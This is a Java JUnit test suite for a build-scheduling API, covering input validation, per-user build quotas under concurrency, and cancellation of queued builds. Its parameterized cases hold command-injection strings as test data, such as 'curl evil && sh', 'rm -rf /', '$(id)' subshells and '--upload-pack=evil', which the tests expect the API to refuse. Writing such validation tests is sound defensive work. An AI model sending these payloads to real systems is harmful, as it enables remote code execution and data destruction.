package io.a4c.local;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.a4c.events.Arch;
import io.a4c.local.testing.ApiClient;
import io.a4c.local.testing.BuildQueueProbe;
import io.a4c.local.testing.GitRepo;
import io.a4c.local.testing.Scenario;
import io.a4c.local.testing.SharedRuntime;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What the image-schedules API refuses, and what it says about builds that wait. */
@ExtendWith(SharedRuntime.class)
class BuildRequestTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "a tool with a command after it | tools[0]             | tools           | [\"vim; curl evil && sh\"]",
        "a tool that is an option       | tools[0]             | tools           | [\"--allow-unauthenticated\"]",
        "a depot path with a subshell   | source.depotPath     | source          | {\"type\": \"perforce\", \"depotPath\": \"//depot/$(id)/...\"}",
        "a git URL with a command       | source.url           | source          | {\"type\": \"git\", \"url\": \"https://example.com/x.git;rm -rf /\"}",
        "a setup line joining the next  | setup[0]             | setup           | [\"echo a \\\\\"]",
        "a cron that is not EventBridge | recurringBuilds[0].cron | recurringBuilds | [{\"parentName\": \"main\", \"cron\": \"* * * * *\"}]"
      })
  void aProjectWithShellCharactersWhereTheyWouldReachTheDockerfileIsRefusedAndNotWritten(
      String what, String field, String key, String value, ApiClient api) throws Exception {
    var scenario = new Scenario(api);
    String name = scenario.project("meta");
    var body =
        (ObjectNode)
            JSON.readTree(
                """
                {"source": {"type": "perforce", "depotPath": "//depot/ok/..."}, "baseImage": "a4c-base:busybox",
                 "tools": ["curl"], "parents": ["main"], "setup": [], "recurringBuilds": []}
                """);
    body.set(key, JSON.readTree(value));

    var reply = api.put("/v1/projects/" + name, api.adminToken(), JSON.writeValueAsString(body));

    assertThat(reply.status()).as(reply.body()).isEqualTo(400);
    assertThat(reply.at("/field")).isEqualTo(field);
    assertThat(api.get("/v1/projects/" + name, api.adminToken()).status()).isEqualTo(404);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "a change with a command  | change    | {\"imageName\": \"x\", \"project\": \"PROJECT\", \"change\": \"1234; curl evil && sh\"}",
        "a change with a subshell | change    | {\"imageName\": \"x\", \"project\": \"PROJECT\", \"change\": \"$(id)\"}",
        "a change that is an option | change  | {\"imageName\": \"x\", \"project\": \"PROJECT\", \"change\": \"--upload-pack=evil\"}",
        "a parent with a command  | parentName | {\"imageName\": \"x\", \"project\": \"PROJECT\", \"change\": \"1\", \"parentName\": \"main;id\"}",
        "an image name with a space | imageName | {\"imageName\": \"x y\", \"project\": \"PROJECT\", \"change\": \"1\"}",
        "no change                | change    | {\"imageName\": \"x\", \"project\": \"PROJECT\"}",
        "an unknown parent        | parentName | {\"imageName\": \"x\", \"project\": \"PROJECT\", \"change\": \"1\", \"parentName\": \"release\"}"
      })
  void aBuildRequestWithShellCharactersIsRefusedAndNothingIsScheduled(
      String what, String field, String body, ApiClient api) {
    var scenario = new Scenario(api);
    String project = scenario.createProject("metabuild");
    String user = scenario.user("mallory");

    var reply =
        api.post(
            "/v1/users/" + user + "/image-schedules",
            api.tokenOf(user),
            body.replace("PROJECT", project));

    assertThat(reply.status()).as(reply.body()).isEqualTo(400);
    assertThat(reply.contentType()).isEqualTo("application/problem+json");
    assertThat(reply.at("/field")).isEqualTo(field);
    assertThat(
            api.get("/v1/users/" + user + "/image-schedules", api.tokenOf(user))
                .json()
                .get("items"))
        .isEmpty();
  }

  @Test
  void aUserAtTheProjectsBuildQuotaIsRefusedWith429UntilABuildEnds(
      ApiClient api, LocalRuntime runtime) throws Exception {
    var scenario = new Scenario(api);
    var repo = GitRepo.create();
    String change = repo.commit("README", "quota\n").substring(0, 12);
    String project = projectWithBuildQuota(api, scenario, repo, "quota", 1);
    String gina = scenario.user("gina");
    try (var probe = new BuildQueueProbe(runtime)) {
      probe.pauseAll();
      try {
        String first = scenario.scheduleBuild(gina, project, change).at("/scheduleId");

        var refused =
            api.post(
                "/v1/users/" + gina + "/image-schedules",
                api.tokenOf(gina),
                "{\"imageName\": \"x\", \"project\": \"%s\", \"change\": \"%s\"}"
                    .formatted(project, change));
        assertThat(refused.status()).isEqualTo(429);
        assertThat(refused.at("/reason")).isEqualTo("build-quota");

        assertThat(
                api.delete("/v1/users/" + gina + "/image-schedules/" + first, api.tokenOf(gina))
                    .status())
            .isEqualTo(200);
        assertThat(scenario.scheduleBuild(gina, project, change).status()).isEqualTo(202);
      } finally {
        leaveNoBuildBehind(scenario, gina, probe);
      }
    }
  }

  @Test
  void simultaneousRequestsCannotPassTheBuildQuotaTogether(ApiClient api, LocalRuntime runtime)
      throws Exception {
    var scenario = new Scenario(api);
    var repo = GitRepo.create();
    String change = repo.commit("README", "rush\n").substring(0, 12);
    String project = projectWithBuildQuota(api, scenario, repo, "rush", 3);
    String hank = scenario.user("hank");
    String request =
        "{\"imageName\": \"x\", \"project\": \"%s\", \"change\": \"%s\"}"
            .formatted(project, change);
    try (var probe = new BuildQueueProbe(runtime)) {
      probe.pauseAll();
      try {
        Callable<ApiClient.Reply> schedule =
            () -> api.post("/v1/users/" + hank + "/image-schedules", api.tokenOf(hank), request);
        List<ApiClient.Reply> replies = new ArrayList<>();
        try (var pool = Executors.newFixedThreadPool(12)) {
          for (var future : pool.invokeAll(Collections.nCopies(12, schedule))) {
            replies.add(future.get());
          }
        }

        assertThat(replies).extracting(ApiClient.Reply::status).containsOnly(202, 429);
        assertThat(replies.stream().filter(r -> r.status() == 202)).hasSize(3);
        var held =
            api.get("/v1/users/" + hank + "/image-schedules", api.tokenOf(hank))
                .json()
                .get("items");
        assertThat(held).hasSize(3);
        // Ending a build gives its place back: a cancel frees exactly one.
        api.delete(
            "/v1/users/" + hank + "/image-schedules/" + held.get(0).get("scheduleId").asText(),
            api.tokenOf(hank));
        assertThat(
                api.post("/v1/users/" + hank + "/image-schedules", api.tokenOf(hank), request)
                    .status())
            .isEqualTo(202);
        assertThat(
                api.post("/v1/users/" + hank + "/image-schedules", api.tokenOf(hank), request)
                    .status())
            .isEqualTo(429);
      } finally {
        leaveNoBuildBehind(scenario, hank, probe);
      }
    }
  }

  /**
   * With the builders still paused (before the probe's close resumes them): cancels the user's
   * waiting builds and empties the queue of their jobs, so that none runs, or is refused, in a
   * later test's window once they resume.
   */
  private static void leaveNoBuildBehind(Scenario scenario, String user, BuildQueueProbe probe) {
    scenario.cancelWaitingBuilds(user);
    probe.purge(Arch.AMD64);
  }

  /** A git project whose users may have at most {@code quota} builds in flight. */
  private static String projectWithBuildQuota(
      ApiClient api, Scenario scenario, GitRepo repo, String name, int quota) {
    String project = scenario.project(name);
    String body =
        Scenario.gitProjectJson(repo, "[]")
            .replace(
                "\"recurringBuilds\"",
                "\"quotas\": {\"maxBuildsInFlightPerUser\": " + quota + "}, \"recurringBuilds\"");
    assertThat(api.put("/v1/projects/" + project, api.adminToken(), body).status()).isEqualTo(200);
    return project;
  }

  @Test
  void waitingBuildsShowTheirPlaceAndWhyAndCanBeCancelledUntilABuilderTakesThem(
      ApiClient api, LocalRuntime runtime) throws Exception {
    var scenario = new Scenario(api);
    var repo = GitRepo.create();
    String change = repo.commit("README", "wait\n").substring(0, 12);
    String project = scenario.createGitProject("waiting", repo);
    String frank = scenario.user("frank");
    try (var probe = new BuildQueueProbe(runtime)) {
      probe.pauseAll();
      String first = scenario.scheduleBuild(frank, project, change).at("/scheduleId");
      String second = scenario.scheduleBuild(frank, project, change).at("/scheduleId");

      var waiting =
          await()
              .atMost(Duration.ofSeconds(10))
              .until(
                  () ->
                      api.get(
                          "/v1/users/" + frank + "/image-schedules/" + second, api.tokenOf(frank)),
                  r -> "builders-down".equals(r.at("/waiting/code")));
      assertThat(waiting.at("/status")).isEqualTo("SCHEDULED");
      assertThat(waiting.json().at("/waiting/position").asInt()).isGreaterThanOrEqualTo(2);
      assertThat(waiting.at("/waiting/reason"))
          .contains("every builder of arch amd64 is down or stopped");
      var list = api.get("/v1/users/" + frank + "/image-schedules", api.tokenOf(frank));
      assertThat(list.json().get("items")).hasSize(2);
      assertThat(list.json().at("/items/0/waiting/position").asInt())
          .isLessThan(list.json().at("/items/1/waiting/position").asInt());

      var cancelled =
          api.delete("/v1/users/" + frank + "/image-schedules/" + first, api.tokenOf(frank));
      assertThat(cancelled.status()).isEqualTo(200);
      assertThat(cancelled.at("/status")).isEqualTo("CANCELLED");
      probe.resumeAll();
      var built = scenario.awaitBuild(frank, second, "COMPLETED");
      assertThat(built.json().get("waiting")).isNull();

      // The cancelled one's job reached a builder, which was refused the claim and dropped it.
      await().atMost(Duration.ofSeconds(20)).until(() -> probe.claimsRefused() >= 1);
      assertThat(
              api.get("/v1/users/" + frank + "/image-schedules/" + first, api.tokenOf(frank))
                  .at("/status"))
          .isEqualTo("CANCELLED");
      var tooLate =
          api.delete("/v1/users/" + frank + "/image-schedules/" + second, api.tokenOf(frank));
      assertThat(tooLate.status()).isEqualTo(409);
      assertThat(tooLate.at("/detail")).contains("COMPLETED");
    }
  }
}
